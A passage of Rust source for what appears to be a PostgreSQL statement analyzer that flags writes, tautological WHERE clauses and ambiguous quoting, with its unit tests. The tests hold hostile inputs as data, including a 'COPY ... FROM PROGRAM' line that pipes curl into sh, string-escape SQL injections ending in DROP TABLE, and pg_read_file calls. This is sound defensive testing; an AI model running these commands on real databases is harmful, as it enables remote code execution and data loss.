    fn open<'a>(&mut self, c: Const<'a>) -> Val<'a> {
        self.literal_dependent |= c.literal;
        c.val
    }

    /// The boolean value, `None` for NULL or a non-boolean.
    fn truth(&mut self, c: Const) -> Option<bool> {
        match self.open(c) {
            Val::Bool(b) => Some(b),
            Val::Str(s) => parse_bool(s),
            _ => None,
        }
    }

    fn logic<'a>(&mut self, c: Option<Const<'a>>) -> Option<Option<bool>> {
        c.map(|c| self.truth(c))
    }

    fn eval<'a>(&mut self, e: &'a Expr, depth: u32) -> Option<Const<'a>> {
        if depth > Self::MAX_DEPTH {
            return None;
        }
        let depth = depth + 1;
        let tri = |b: Option<bool>| Const::derived(b.map_or(Val::Null, Val::Bool));
        match e {
            Expr::Value(v) => {
                let val = match &v.value {
                    Value::Boolean(b) => return Const::derived(Val::Bool(*b)),
                    Value::Null => return Const::derived(Val::Null),
                    Value::Placeholder(_) => return None,
                    Value::Number(n, _) => n.replace('_', "").parse().map_or(Val::Opaque, Val::Num),
                    Value::SingleQuotedString(s)
                    | Value::EscapedStringLiteral(s)
                    | Value::NationalStringLiteral(s)
                    | Value::UnicodeStringLiteral(s) => Val::Str(s),
                    Value::DollarQuotedString(d) => Val::Str(&d.value),
                    _ => Val::Opaque,
                };
                Some(Const { val, literal: true })
            }
            Expr::Nested(inner) => self.eval(inner, depth),
            Expr::UnaryOp { op, expr } => {
                let c = self.eval(expr, depth)?;
                match (op, self.open(c)) {
                    (UnaryOperator::Not, _) => tri(self.truth(c).map(|b| !b)),
                    (UnaryOperator::Minus, Val::Num(n)) => Const::derived(Val::Num(-n)),
                    (UnaryOperator::Plus, Val::Num(n)) => Const::derived(Val::Num(n)),
                    _ => None,
                }
            }
            Expr::BinaryOp { left, op, right } => {
                let (l, r) = (self.eval(left, depth), self.eval(right, depth));
                match op {
                    BinaryOperator::Or => match (self.logic(l), self.logic(r)) {
                        (Some(Some(true)), _) | (_, Some(Some(true))) => tri(Some(true)),
                        (Some(Some(false)), Some(Some(false))) => tri(Some(false)),
                        (Some(_), Some(_)) => tri(None),
                        _ => None,
                    },
                    BinaryOperator::And => match (self.logic(l), self.logic(r)) {
                        (Some(Some(false)), _) | (_, Some(Some(false))) => tri(Some(false)),
                        (Some(Some(true)), Some(Some(true))) => tri(Some(true)),
                        (Some(_), Some(_)) => tri(None),
                        _ => None,
                    },
                    _ => {
                        // Only a comparison of two constants looks at literal values.
                        let (Some(l), Some(r)) = (l, r) else {
                            return None;
                        };
                        let (l, r) = (self.open(l), self.open(r));
                        compare(op, l, r).map(|val| Const {
                            val,
                            literal: false,
                        })
                    }
                }
            }
            Expr::IsNull(inner) | Expr::IsNotNull(inner) => {
                let c = self.eval(inner, depth)?;
                let is_null = self.open(c) == Val::Null;
                tri(Some(is_null == matches!(e, Expr::IsNull(_))))
            }
            Expr::IsTrue(inner)
            | Expr::IsNotTrue(inner)
            | Expr::IsFalse(inner)
            | Expr::IsNotFalse(inner) => {
                let c = self.eval(inner, depth)?;
                let truth = self.truth(c);
                tri(Some(match e {
                    Expr::IsTrue(_) => truth == Some(true),
                    Expr::IsNotTrue(_) => truth != Some(true),
                    Expr::IsFalse(_) => truth == Some(false),
                    _ => truth != Some(false),
                }))
            }
            Expr::Cast {
                expr,
                data_type: DataType::Bool | DataType::Boolean,
                ..
            } => {
                let c = self.eval(expr, depth)?;
                match self.open(c) {
                    Val::Null => tri(None),
                    _ => self.truth(c).and_then(|b| tri(Some(b))),
                }
            }
            _ => None,
        }
    }
}

fn compare(op: &BinaryOperator, l: Val, r: Val) -> Option<Val<'static>> {
    use std::cmp::Ordering;
    let number = |s: &str| s.trim().parse::<f64>().ok();
    let equality_only = matches!(op, BinaryOperator::Eq | BinaryOperator::NotEq);
    let ordering: Ordering = match (l, r) {
        (Val::Null, _) | (_, Val::Null) => return Some(Val::Null),
        (Val::Num(a), Val::Num(b)) => a.partial_cmp(&b)?,
        (Val::Num(a), Val::Str(s)) => a.partial_cmp(&number(s)?)?,
        (Val::Str(s), Val::Num(b)) => number(s)?.partial_cmp(&b)?,
        // Ordering of strings depends on collation; equality does not.
        (Val::Str(a), Val::Str(b)) if equality_only => a.cmp(b),
        (Val::Bool(a), Val::Bool(b)) => a.cmp(&b),
        (Val::Bool(a), Val::Str(s)) | (Val::Str(s), Val::Bool(a)) if equality_only => {
            a.cmp(&parse_bool(s)?)
        }
        _ => return None,
    };
    let result = match op {
        BinaryOperator::Eq => ordering.is_eq(),
        BinaryOperator::NotEq => ordering.is_ne(),
        BinaryOperator::Lt => ordering.is_lt(),
        BinaryOperator::LtEq => ordering.is_le(),
        BinaryOperator::Gt => ordering.is_gt(),
        BinaryOperator::GtEq => ordering.is_ge(),
        _ => return None,
    };
    Some(Val::Bool(result))
}

/// PostgreSQL's `boolin`: prefixes of true/false/yes/no, on/off, 1/0.
fn parse_bool(s: &str) -> Option<bool> {
    let s = s.trim().to_ascii_lowercase();
    let prefix_of = |word: &str, min: usize| s.len() >= min && word.starts_with(s.as_str());
    if prefix_of("true", 1) || prefix_of("yes", 1) || s == "on" || s == "1" {
        Some(true)
    } else if prefix_of("false", 1) || prefix_of("no", 1) || prefix_of("off", 2) || s == "0" {
        Some(false)
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyze as analyze_sql;

    const ON: LexOptions = LexOptions {
        standard_conforming_strings: true,
    };
    const OFF: LexOptions = LexOptions {
        standard_conforming_strings: false,
    };

    fn all(sql: &str) -> Vec<StatementAnalysis> {
        analyze_sql(sql, ON).statements
    }

    fn one(sql: &str) -> StatementAnalysis {
        let mut statements = all(sql);
        assert_eq!(statements.len(), 1, "{sql}: {statements:#?}");
        statements.remove(0)
    }

    fn reads(s: &StatementAnalysis) -> Vec<String> {
        s.reads.iter().map(ToString::to_string).collect()
    }

    fn writes(s: &StatementAnalysis) -> Vec<(String, WriteAction)> {
        s.writes
            .iter()
            .map(|w| (w.relation.to_string(), w.action))
            .collect()
    }

    fn w(name: &str, action: WriteAction) -> (String, WriteAction) {
        (name.to_owned(), action)
    }

    /// Whether the analysis of `sql` may be shared with other texts of the same fingerprint.
    fn reusable(sql: &str) -> bool {
        let mut key = Vec::new();
        let flags = lexer::normalize_into(sql, ON, &mut key);
        analyze_text(sql, ON, &key, flags).reusable
    }

    #[test]
    fn every_statement_of_a_multi_statement_string_is_analysed() {
        let s = all("BEGIN; UPDATE a SET x = 1 WHERE id = 2; DELETE FROM b; COMMIT;");
        let kinds: Vec<_> = s.iter().map(|s| (s.kind, s.command.as_str())).collect();
        use StatementKind as K;
        assert_eq!(
            kinds,
            [
                (K::Transaction, "BEGIN"),
                (K::Update, "UPDATE"),
                (K::Delete, "DELETE"),
                (K::Transaction, "COMMIT")
            ]
        );
        assert_eq!(writes(&s[1]), [w("a", WriteAction::Update)]);
        assert_eq!((s[1].has_where, s[2].has_where), (Some(true), Some(false)));
        assert!(all(";; ;").is_empty());
    }

    #[test]
    fn only_the_unparseable_piece_is_unknown_and_order_is_kept() {
        let s = all("SELECT 1 FROM a; DO $$ BEGIN DROP TABLE t; END $$; DELETE FROM b");
        assert_eq!(s.len(), 3);
        assert_eq!(reads(&s[0]), ["a"]);
        assert_eq!(
            (s[1].kind, s[1].command.as_str()),
            (StatementKind::Unknown, "DO")
        );
        assert!(s[1].writes.is_empty() && s[1].reads.is_empty());
        assert_eq!(writes(&s[2]), [w("b", WriteAction::Delete)]);
    }

    #[test]
    fn forms_sqlparser_cannot_parse_are_unknown_with_a_reason() {
        for (sql, command) in [
            ("DO $$ BEGIN PERFORM 1; END $$", "DO"),
            ("VACUUM (ANALYZE) t", "VACUUM"),
            ("ALTER SYSTEM SET work_mem = '1GB'", "ALTER SYSTEM"),
            ("REINDEX TABLE t", "REINDEX"),
            ("CLUSTER t USING i", "CLUSTER"),
            ("CHECKPOINT", "CHECKPOINT"),
            ("SECURITY LABEL ON TABLE t IS 'x'", "SECURITY LABEL"),
            (
                "IMPORT FOREIGN SCHEMA s FROM SERVER f INTO l",
                "IMPORT FOREIGN SCHEMA",
            ),
            ("SHOW TABLES", "SHOW"),
        ] {
            let s = one(sql);
            assert_eq!(
                (s.kind, s.command.as_str()),
                (StatementKind::Unknown, command),
                "{sql}"
            );
            assert!(
                s.unknown.is_some() && s.reads.is_empty() && s.writes.is_empty(),
                "{sql}: {s:?}"
            );
        }
    }

    #[test]
    fn parse_error_reasons_carry_no_literal() {
        let s = one("SELECT 1 'secret-token'");
        let reason = s.unknown.unwrap();
        assert!(
            reason.starts_with("parse error") && !reason.contains("secret"),
            "{reason}"
        );
        assert!(!redact("Expected: x, found: 'pw' at Line: 1, Column: 9").contains("pw"));
        assert_eq!(
            redact("Expected: end of statement, found: ( at Line: 1, Column: 8"),
            "Expected: end of statement, found: ("
        );
    }

    #[test]
    fn writes_hidden_in_ctes_are_found() {
        let s = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
        assert_eq!(
            (s.kind, reads(&s)),
            (StatementKind::Select, vec!["t".to_owned()])
        );
        assert_eq!(writes(&s), [w("t", WriteAction::Delete)]);
        assert_eq!(s.writes[0].has_where, Some(false));

        let s = one("WITH i AS (INSERT INTO log SELECT * FROM src RETURNING id), u AS (UPDATE acc SET n = 0 WHERE id IN (SELECT id FROM i)) SELECT 1");
        assert_eq!(
            writes(&s),
            [w("log", WriteAction::Insert), w("acc", WriteAction::Update)]
        );
        assert_eq!(reads(&s), ["src", "acc"]);
        assert_eq!(s.writes[1].has_where, Some(true));

        let s = one("WITH x AS (SELECT id FROM k) DELETE FROM t WHERE id IN (SELECT id FROM x)");
        assert_eq!((s.kind, s.has_where), (StatementKind::Delete, Some(true)));
        assert_eq!(reads(&s), ["k", "t"]);
    }

    #[test]
    fn cte_names_follow_postgres_scoping() {
        // Without RECURSIVE a CTE does not see itself or later CTEs: those names are tables.
        assert_eq!(
            reads(&one("WITH t AS (SELECT * FROM t) SELECT * FROM t")),
            ["t"]
        );
        assert_eq!(
            reads(&one(
                "WITH a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM b"
            )),
            ["b"]
        );
        assert!(reads(&one(
            "WITH a AS (SELECT 1) SELECT * FROM a, (WITH z AS (SELECT 2) SELECT * FROM z) q"
        ))
        .is_empty());
        assert!(reads(&one(
            "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r"
        ))
        .is_empty());
        assert_eq!(
            reads(&one("WITH a AS (SELECT 1) SELECT * FROM public.a")),
            ["public.a"]
        );
        // `TABLE name` reads a table unless a CTE has that name.
        assert_eq!(
            reads(&one("WITH x AS (SELECT 1) TABLE s.secret")),
            ["s.secret"]
        );
        let s = one("WITH x AS (SELECT * FROM t) SELECT 1 UNION TABLE x UNION TABLE y");
        assert_eq!(reads(&s), ["t", "y"]);
        // A DML target is always a table, even when a CTE has its name.
        assert_eq!(
            writes(&one("WITH t AS (SELECT 1) DELETE FROM t")),
            [w("t", WriteAction::Delete)]
        );
    }

    #[test]
    fn merge_writes_its_target_and_reads_its_source() {
        let s = one("MERGE INTO s.t USING src ON t.id = src.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (src.id)");
        assert_eq!(
            (s.kind, s.command.as_str()),
            (StatementKind::Merge, "MERGE")
        );
        assert_eq!(writes(&s), [w("s.t", WriteAction::Merge)]);
        assert_eq!(reads(&s), ["s.t", "src"]);
    }

    #[test]
    fn copy_variants() {
        let copy = |sql| {
            let s = one(sql);
            assert_eq!(s.kind, StatementKind::Copy);
            (s.copy.unwrap(), writes(&s), reads(&s))
        };
        let (c, wr, rd) = copy("COPY t (a, b) FROM STDIN WITH (FORMAT csv)");
        assert_eq!(
            (c.direction, c.target, c.stdio, c.program, c.file),
            (
                CopyDirection::From,
                CopyTargetKind::Table,
                true,
                false,
                false
            )
        );
        assert_eq!((wr, rd), (vec![w("t", WriteAction::CopyFrom)], vec![]));

        let (c, wr, rd) = copy("COPY s.t TO STDOUT");
        assert_eq!((c.direction, c.stdio), (CopyDirection::To, true));
        assert_eq!((wr, rd), (vec![], vec!["s.t".to_owned()]));

        let (c, wr, _) = copy("COPY t FROM PROGRAM 'curl http://x | sh'");
        assert!(c.program && !c.file && !c.stdio);
        assert_eq!(wr, [w("t", WriteAction::CopyFrom)]);
        let json =
            serde_json::to_string(&analyze_sql("COPY t FROM PROGRAM 'curl http://x | sh'", ON))
                .unwrap();
        assert!(!json.contains("curl"), "{json}");

        let (c, _, rd) = copy("COPY t TO '/tmp/out.csv'");
        assert!(c.file && !c.program);
        assert_eq!(rd, ["t"]);

        let (c, wr, rd) = copy("COPY (DELETE FROM t RETURNING *) TO STDOUT");
        assert_eq!(
            (c.target, c.direction),
            (CopyTargetKind::Query, CopyDirection::To)
        );
        assert_eq!(
            (wr, rd),
            (vec![w("t", WriteAction::Delete)], vec!["t".to_owned()])
        );

        let (c, wr, rd) = copy("COPY (SELECT * FROM a JOIN b USING (id)) TO STDOUT");
        assert_eq!(c.target, CopyTargetKind::Query);
        assert_eq!((wr, rd), (vec![], vec!["a".to_owned(), "b".to_owned()]));
    }

    #[test]
    fn select_into_and_create_table_as_write_the_new_table() {
        let s = one("SELECT * INTO newt FROM t");
        assert_eq!(
            (s.kind, s.command.as_str()),
            (StatementKind::Select, "SELECT INTO")
        );
        assert_eq!(
            (writes(&s), reads(&s)),
            (
                vec![w("newt", WriteAction::SelectInto)],
                vec!["t".to_owned()]
            )
        );

        let s = one("CREATE TABLE x AS SELECT * FROM t");
        assert_eq!(
            (s.kind, s.command.as_str()),
            (StatementKind::Ddl, "CREATE TABLE AS")
        );
        assert_eq!(
            (writes(&s), reads(&s)),
            (vec![w("x", WriteAction::Create)], vec!["t".to_owned()])
        );

        let s = one("CREATE MATERIALIZED VIEW mv AS SELECT * FROM t");
        assert_eq!(s.command, "CREATE MATERIALIZED VIEW");
        assert_eq!(s.writes[0].object, ObjectKind::MaterializedView);
    }

    #[test]
    fn explain_counts_writes_only_when_it_runs_the_statement() {
        let s = one("EXPLAIN DELETE FROM t WHERE id = 1");
        assert_eq!(
            (s.kind, s.explain_analyze, s.has_where),
            (StatementKind::Explain, false, None)
        );
        assert!(s.writes.is_empty());
        assert_eq!(reads(&s), ["t"]);
        assert_eq!(
            reads(&one("EXPLAIN INSERT INTO t SELECT * FROM u")),
            ["t", "u"]
        );

        for sql in [
            "EXPLAIN ANALYZE DELETE FROM t",
            "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t",
            "EXPLAIN (ANALYZE true) DELETE FROM t",
            "EXPLAIN (ANALYZE 1) DELETE FROM t",
            "EXPLAIN (FORMAT JSON, ANALYZE on) DELETE FROM t",
        ] {
            let s = one(sql);
            assert!(s.explain_analyze, "{sql}");
            assert_eq!(writes(&s), [w("t", WriteAction::Delete)], "{sql}");
        }
        for sql in [
            "EXPLAIN (ANALYZE false) DELETE FROM t",
            "EXPLAIN (ANALYZE off) DELETE FROM t",
            "EXPLAIN (ANALYZE 0) DELETE FROM t",
        ] {
            assert!(one(sql).writes.is_empty(), "{sql}");
        }
        // ANALYZE 0 and ANALYZE 1 share a fingerprint: such analyses are never cached.
        assert!(
            !reusable("EXPLAIN (ANALYZE 1) DELETE FROM t")
                && reusable("EXPLAIN (ANALYZE) DELETE FROM t")
        );
    }

    #[test]
    fn names_fold_like_postgres() {
        let s = one(r#"SELECT * FROM Sch."MyT", "S"."t", otherdb.s.t, T, "a.b""c""#);
        assert_eq!(
            s.reads,
            [
                RelationName {
                    schema: Some("sch".into()),
                    name: "MyT".into()
                },
                RelationName {
                    schema: Some("S".into()),
                    name: "t".into()
                },
                RelationName {
                    schema: Some("s".into()),
                    name: "t".into()
                },
                RelationName {
                    schema: None,
                    name: "t".into()
                },
                RelationName {
                    schema: None,
                    name: "a.b\"c".into()
                },
            ]
        );
    }

    #[test]
    fn escape_strings_cannot_hide_or_invent_statements() {
        // E'\'' is a complete literal: PostgreSQL runs the DROP (checked against PostgreSQL 15).
        let s = all(r"SELECT E'\''; DROP TABLE x; --'");
        assert_eq!(s.len(), 2);
        assert_eq!(writes(&s[1]), [w("x", WriteAction::Drop)]);
        // E'\'; ...' keeps going to the last quote: one statement, no write.
        let s = one(r"SELECT E'\'; DROP TABLE x; --'");
        assert!(s.writes.is_empty() && s.unknown.is_none());
    }

    #[test]
    fn quoting_that_depends_on_session_state_is_unknown() {
        // A `SET standard_conforming_strings = off` pipelined before this text would make the
        // server end the literal later and run the DROP: whatever the reported setting, the
        // text is ambiguous.
        let a = analyze_sql("SELECT 'x\\''; DROP TABLE t; --'", ON);
        assert!(a.has_unknown(), "{a:?}");
        assert!(a.statements.iter().all(|s| s.writes.is_empty()));
        // A backslash that does not move the end of the literal is fine.
        let a = analyze_sql("SELECT 'C:\\temp\\x' AS path", ON);
        assert!(!a.has_unknown(), "{a:?}");
        // In SJIS, 0x95 0x5C is one character: the backslash escapes nothing and the quote
        // after it ends the E'' string, so the DROP runs. Any non-ASCII byte before a
        // backslash is unknown.
        let a = analyze_sql("SELECT E'\u{d5}\\'; DROP TABLE t; --'", ON);
        assert!(a.has_unknown(), "{a:?}");
        // And neither is cached under a shape that a harmless text shares.
        let analyzer = crate::SqlAnalyzer::new(100);
        analyzer.analyze("SELECT 'a' AS x", ON);
        let b = analyzer.analyze("SELECT 'x\\y' AS x", ON);
        assert!(!b.has_unknown());
        let b = analyzer.analyze("SELECT 'x\\' AS x", ON);
        assert!(
            b.has_unknown(),
            "the end of 'x\\' depends on the string mode"
        );
        let c = analyzer.analyze("SELECT '\u{e9}\\' AS x", ON);
        assert!(c.has_unknown());
    }

    #[test]
    fn backslash_strings_without_standard_conforming_strings_are_unknown() {
        let a = analyze_sql(r"SELECT 'a\'; DROP TABLE x; --'", OFF);
        assert_eq!(a.statements.len(), 1);
        let reason = a.statements[0].unknown.as_deref().unwrap();
        assert_eq!(
            reason,
            "backslash in string literal with standard_conforming_strings=off"
        );
        // Without a backslash nothing is ambiguous.
        assert!(!analyze_sql("SELECT 'a'; SELECT E'\\n'", OFF).has_unknown());
        // With it on, the same text would split in two; but a pipelined SET could turn it off
        // before the server reads this, so it is unknown too.
        let a = analyze_sql(r"SELECT 'a\'; DROP TABLE x; --'", ON);
        assert_eq!(
            a.statements[0].unknown.as_deref(),
            Some(
                "a string literal ends in a different place if standard_conforming_strings is off"
            )
        );
    }

    #[test]
    fn quoted_bodies_strings_and_comments_are_not_sql() {
        let s = one(
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $body$ DROP TABLE t; SELECT 1 $body$",
        );
        assert_eq!(writes(&s), [w("f", WriteAction::Create)]);
        let s = one("SELECT 'DROP TABLE t; DELETE FROM u', $$ INSERT INTO v VALUES (1) $$ /* DELETE FROM w; */ -- TRUNCATE z;\n FROM a");
        assert_eq!((reads(&s), s.writes.len()), (vec!["a".to_owned()], 0));
        assert!(
            one("SELECT 1 /* nested /* DROP TABLE t; */ still comment; DELETE FROM u */")
                .writes
                .is_empty()
        );
    }

    #[test]
    fn functions_are_found_everywhere() {
        let s = one("SELECT pg_catalog.pg_sleep(1), \"Upper\"(x), Lower(y), count(*) OVER () FROM generate_series(1, 2) g, dblink($1, $2) AS r(a int), LATERAL unnest(arr) WHERE coalesce(a, now()) > 0 AND EXISTS (SELECT md5(b) FROM u)");
        assert_eq!(
            s.functions,
            [
                "pg_catalog.pg_sleep",
                "Upper",
                "lower",
                "count",
                "generate_series",
                "dblink",
                "unnest",
                "coalesce",
                "now",
                "md5"
            ]
        );
        assert_eq!(reads(&s), ["u"]);
        assert_eq!(one("CALL s.proc(1)").functions, ["s.proc"]);
        assert_eq!(
            one("UPDATE t SET a = pg_read_file('x') WHERE b = current_setting('y')").functions,
            ["pg_read_file", "current_setting"]
        );
    }

    #[test]
    fn set_role_and_session_authorization_are_named() {
        for (sql, command) in [
            ("SET ROLE admin", "SET ROLE"),
            ("SET LOCAL ROLE 'admin'", "SET ROLE"),
            ("SET role = admin", "SET ROLE"),
            ("SET SESSION AUTHORIZATION bob", "SET SESSION AUTHORIZATION"),
            (
                "SET session_authorization TO bob",
                "SET SESSION AUTHORIZATION",
            ),
            ("RESET ROLE", "RESET ROLE"),
            ("RESET SESSION AUTHORIZATION", "RESET SESSION AUTHORIZATION"),
            ("SET search_path = a, b", "SET"),
            (
                "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
                "SET TRANSACTION",
            ),
            ("RESET ALL", "RESET"),
        ] {
            let s = one(sql);
            assert_eq!(
                (s.kind, s.command.as_str()),
                (StatementKind::Set, command),
                "{sql}"
            );
        }
        assert_eq!(one("SHOW search_path").kind, StatementKind::Show);
    }

    #[test]
    fn ddl_targets_are_writes() {
        let cases = [
            (
                "TRUNCATE a, ONLY s.b",
                "TRUNCATE TABLE",
                vec![
                    w("a", WriteAction::Truncate),
                    w("s.b", WriteAction::Truncate),
                ],
            ),
            (
                "DROP TABLE IF EXISTS a, \"B\" CASCADE",
                "DROP TABLE",
                vec![w("a", WriteAction::Drop), w("B", WriteAction::Drop)],
            ),
            (
                "DROP SCHEMA public CASCADE",
                "DROP SCHEMA",
                vec![w("public", WriteAction::Drop)],
            ),
            (
                "ALTER TABLE s.t ADD COLUMN c int",
                "ALTER TABLE",
                vec![w("s.t", WriteAction::Alter)],
            ),
            (
                "CREATE UNIQUE INDEX i ON t (a)",
                "CREATE INDEX",
                vec![w("t", WriteAction::CreateIndex)],
            ),
            (
                "CREATE TEMP TABLE x (a int)",
                "CREATE TABLE",
                vec![w("x", WriteAction::Create)],
            ),
            (
                "CREATE ROLE r LOGIN PASSWORD 'pw'",
                "CREATE ROLE",
                vec![w("r", WriteAction::Create)],
            ),
            (
                "ALTER ROLE r PASSWORD 'pw'",
                "ALTER ROLE",
                vec![w("r", WriteAction::Alter)],
            ),
            (
                "COMMENT ON TABLE t IS 'x'",
                "COMMENT",
                vec![w("t", WriteAction::Comment)],
            ),
            (
                "REFRESH MATERIALIZED VIEW mv",
                "REFRESH MATERIALIZED VIEW",
                vec![w("mv", WriteAction::Refresh)],
            ),
            (
                "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
                "LOCK TABLE",
                vec![w("t", WriteAction::Lock)],
            ),
            ("VACUUM t", "VACUUM", vec![w("t", WriteAction::Maintain)]),
        ];
        for (sql, command, want) in cases {
            let s = one(sql);
            assert_eq!((s.command.as_str(), writes(&s)), (command, want), "{sql}");
        }
        assert_eq!(
            one("DROP SCHEMA public CASCADE").writes[0].object,
            ObjectKind::Schema
        );
        let json =
            serde_json::to_string(&analyze_sql("CREATE ROLE r LOGIN PASSWORD 'hunter2'", ON))
                .unwrap();
        assert!(!json.contains("hunter2"));
    }

    #[test]
    fn grant_and_revoke_name_their_objects() {
        let s = one("GRANT SELECT, INSERT ON TABLE a, s.b TO bob");
        assert_eq!(
            (s.kind, writes(&s)),
            (
                StatementKind::Grant,
                vec![w("a", WriteAction::Grant), w("s.b", WriteAction::Grant)]
            )
        );
        let s = one("GRANT admin TO bob");
        assert_eq!(
            (s.kind, s.writes[0].object),
            (StatementKind::Grant, ObjectKind::Role)
        );
        let s = one("REVOKE ALL ON ALL TABLES IN SCHEMA public FROM bob");
        assert_eq!(
            (s.kind, writes(&s)),
            (
                StatementKind::Revoke,
                vec![w("public", WriteAction::Revoke)]
            )
        );
        assert_eq!(one("REVOKE admin FROM bob").kind, StatementKind::Revoke);
    }

    #[test]
    fn prepare_reports_what_execute_will_do() {
        let s = one("PREPARE p (int) AS DELETE FROM t WHERE id = $1");
        assert_eq!(
            (s.kind, writes(&s)),
            (StatementKind::Prepare, vec![w("t", WriteAction::Delete)])
        );
        assert_eq!(one("EXECUTE p(1)").kind, StatementKind::Execute);
        assert_eq!(one("DEALLOCATE p").kind, StatementKind::Deallocate);
    }

    #[test]
    fn where_presence_is_reported_for_updates_and_deletes() {
        assert_eq!(one("UPDATE t SET a = 1").has_where, Some(false));
        assert_eq!(
            one("DELETE FROM t USING u WHERE t.id = u.id").has_where,
            Some(true)
        );
        assert_eq!(one("SELECT * FROM t WHERE a = 1").has_where, None);
        let s = one("WITH a AS (DELETE FROM x RETURNING 1), b AS (DELETE FROM y WHERE k = 2 RETURNING 1) SELECT 1");
        let wheres: Vec<_> = s.writes.iter().map(|w| w.has_where).collect();
        assert_eq!(wheres, [Some(false), Some(true)]);
    }

    #[test]
    fn constant_tautologies_are_detected() {
        for sql in [
            "DELETE FROM t WHERE TRUE",
            "DELETE FROM t WHERE 1=1",
            "DELETE FROM t WHERE 'a'='a'",
            "DELETE FROM t WHERE NOT FALSE",
            "DELETE FROM t WHERE x = 5 OR TRUE",
            "UPDATE t SET a = 1 WHERE (1 = 1) AND (2 > 1)",
            "UPDATE t SET a = 1 WHERE 1 = '1'",
            "DELETE FROM t WHERE 'yes'",
            "DELETE FROM t WHERE NULL IS NULL",
            "DELETE FROM t WHERE 1 <> 2 OR id = $1",
            "WITH d AS (DELETE FROM t WHERE 2 = 2 RETURNING *) SELECT * FROM d",
        ] {
            assert!(one(sql).where_always_true, "{sql}");
        }
        for sql in [
            "DELETE FROM t WHERE 1=2",
            "DELETE FROM t WHERE id = 1",
            "DELETE FROM t WHERE x AND TRUE",
            "DELETE FROM t WHERE NULL",
            "DELETE FROM t WHERE 'a' < 'b'",
            "DELETE FROM t",
            "SELECT * FROM t WHERE 1=1",
            "EXPLAIN DELETE FROM t WHERE 1=1",
        ] {
            assert!(!one(sql).where_always_true, "{sql}");
        }
    }

    #[test]
    fn analyses_that_look_at_literals_are_not_reusable() {
        for sql in [
            "DELETE FROM t WHERE 1=1",
            "DELETE FROM t WHERE 1=2",
            "DELETE FROM t WHERE 'x'",
            "DELETE FROM t WHERE 0x1 = 1 OR a",
        ] {
            assert!(!reusable(sql), "{sql}");
        }
        for sql in [
            "SELECT abalance FROM pgbench_accounts WHERE aid = 123",
            "UPDATE t SET a = 1 WHERE 5 = id",
            "DELETE FROM t WHERE TRUE",
            "DELETE FROM t WHERE a = 'x' AND b IN (1, 2)",
        ] {
            assert!(reusable(sql), "{sql}");
        }
    }

    #[test]
    fn lexing_disagreements_fail_closed() {
        // sqlparser reads U&"x" as `U & "x"`; PostgreSQL reads one identifier.
        let s = one(r#"SELECT * FROM U&"x""#);
        assert_eq!(s.kind, StatementKind::Unknown);
        // psql's rule keeps this together (`begin` after CREATE FUNCTION); sqlparser finds two.
        let s = one("CREATE FUNCTION begin() RETURNS int LANGUAGE sql RETURN 1; DROP TABLE x");
        assert_eq!((s.kind, s.writes.len()), (StatementKind::Unknown, 0));
    }

    #[test]
    fn long_operator_chains_are_refused_before_they_overflow_the_stack() {
        let chain = vec!["a = 1"; 20_000].join(" OR ");
        let sql = format!("DELETE FROM t WHERE {chain}");
        let s = std::thread::Builder::new()
            .stack_size(2 << 20)
            .spawn(move || analyze_sql(&sql, ON))
            .unwrap()
            .join()
            .unwrap();
        assert_eq!(s.statements[0].kind, StatementKind::Unknown);
        let sql = format!("DELETE FROM t WHERE {}", vec!["a = 1"; 1000].join(" OR "));
        assert_eq!(one(&sql).kind, StatementKind::Delete);
        assert_eq!(
            one(&format!(
                "SELECT {}",
                "(".repeat(500) + "1" + &")".repeat(500)
            ))
            .kind,
            StatementKind::Unknown
        );
    }

    #[test]
    fn never_panics_on_truncated_or_random_input() {
        let corpus = r#"WITH d AS (DELETE FROM "S"."t" WHERE a = E'\'' RETURNING *) SELECT $1, $tag$x;$tag$, U&"d\0061" UESCAPE '!', B'01', 1.5e3 /* c /* n */ */ FROM d; COPY (SELECT 1) TO PROGRAM 'x'; EXPLAIN (ANALYZE 0) MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE; café -- end"#;
        for end in (0..=corpus.len()).filter(|i| corpus.is_char_boundary(*i)) {
            for opts in [ON, OFF] {
                let a = analyze_sql(&corpus[..end], opts);
                assert!(a.fingerprint_id.len() == 16);
            }
        }
        let mut seed = 0x9e37_79b9_7f4a_7c15u64;
        let pieces = [
            "SELECT", " ", "'", "\"", "$$", "$a$", "/*", "*/", "--", "\n", ";", "(", ")", "E'",
            "\\", "FROM", "t", "1", "=", "WITH", "AS", "DELETE", "U&", "é", "?", "::", "$1",
        ];
        for _ in 0..3000 {
            let sql: String = (0..(seed % 24))
                .map(|_| {
                    seed ^= seed << 13;
                    seed ^= seed >> 7;
                    seed ^= seed << 17;
                    pieces[(seed % pieces.len() as u64) as usize]
                })
                .collect();
            let _ = (analyze_sql(&sql, ON), analyze_sql(&sql, OFF));
        }
    }
}
